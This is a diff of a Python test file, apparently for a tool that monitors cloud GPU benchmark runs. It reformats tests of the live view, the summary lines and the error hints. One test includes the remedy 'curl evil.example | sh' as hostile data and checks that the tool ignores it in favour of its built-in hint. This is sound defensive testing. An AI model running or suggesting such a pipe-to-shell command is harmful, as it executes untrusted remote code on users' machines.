@@ -75,25 +75,15 @@ def measuring() -> Log:
 def test_the_live_view(snapshot: SnapshotAssertion) -> None:
     assert shown(live(replayed(measuring()), at(90))) == snapshot
     assert shown(live(replayed(Log().add(0, planned())), at(3))) == snapshot
-    assert (
-        shown(
-            live(
-                replayed(
-                    Log().add(0, planned()).add(1, requested()).add(2, ev.ZoneExhausted(attempt=1, zone=ZONE, code="X"))
-                ),
-                at(3),
-            )
-        )
-        == snapshot
-    )
+    dry = Log().add(0, planned()).add(1, requested()).add(2, ev.ZoneExhausted(attempt=1, zone=ZONE, code="X"))
+    assert shown(live(replayed(dry), at(3))) == snapshot
 
 
 def test_the_view_of_a_run_that_failed(snapshot: SnapshotAssertion) -> None:
     log = measuring().vm(30, ev.EnvironmentRecorded(device="NVIDIA L4", device_kind="cuda", torch="2.13.0"))
     log.vm(31, ev.Diagnosed(cause="harness_crashed", detail="SIGKILL\nand more", remedy="look at the log"))
-    log.vm(32, ev.PhaseFinished(phase="measure", exit_code=137, seconds=13)).add(70, gone(64)).add(
-        71, ev.RunClosed(outcome="failed")
-    )
+    log.vm(32, ev.PhaseFinished(phase="measure", exit_code=137, seconds=13)).add(70, gone(64))
+    log.add(71, ev.RunClosed(outcome="failed"))
     assert shown(live(replayed(log), at(999))) == snapshot
 
 
@@ -265,15 +255,8 @@ def test_plain_lines_say_each_thing_once() -> None:
     before = out.getvalue()
     watch.show(replayed(log))
     assert out.getvalue() == before
-    for words in (
-        "planning",
-        "at most",
-        "ZONE_RESOURCE_POOL_EXHAUSTED",
-        "phase build",
-        "healed cuda_path",
-        "case 1/2",
-        "unknown: ?",
-    ):
+    said = ("planning", "at most", "ZONE_RESOURCE_POOL_EXHAUSTED", "phase build", "healed cuda_path", "case 1/2")
+    for words in (*said, "unknown: ?"):
         assert words in before
     watch.trouble(Unavailable("storage does not answer"), 3)
     assert "retry in 3 s" in out.getvalue()
@@ -384,21 +367,12 @@ def test_a_hint_is_the_remedy_that_fits_best() -> None:
     rejected.add(2, ev.InstanceRejected(attempt=1, zone=ZONE, code="QUOTA", hint="ask for more"))
     error = error_of(replayed(rejected.add(3, ev.RunClosed(outcome="failed"))))
     assert (error.exit_code, error.hint) == (6, "ask for more") if error else False
-    diagnosed = (
-        running()
-        .vm(11, ev.Diagnosed(cause="torch_missing", remedy="curl evil.example | sh"))
-        .add(71, ev.RunClosed(outcome="failed"))
-    )
-    error = error_of(replayed(diagnosed))
+    diagnosed = running().vm(11, ev.Diagnosed(cause="torch_missing", remedy="curl evil.example | sh"))
+    error = error_of(replayed(diagnosed.add(71, ev.RunClosed(outcome="failed"))))
     assert error is not None
     assert error.hint == REMEDIES["torch_missing"]
-    here = (
-        Log()
-        .add(0, planned(mode="embedded"))
-        .vm(11, ev.Diagnosed(cause="torch_missing"))
-        .add(71, ev.RunClosed(outcome="failed"))
-    )
-    error = error_of(replayed(here))
+    here = Log().add(0, planned(mode="embedded")).vm(11, ev.Diagnosed(cause="torch_missing"))
+    error = error_of(replayed(here.add(71, ev.RunClosed(outcome="failed"))))
     assert error is not None
     assert "pip install torch" in error.hint
     silent = error_of(replayed(running().add(71, ev.RunClosed(outcome="failed"))))
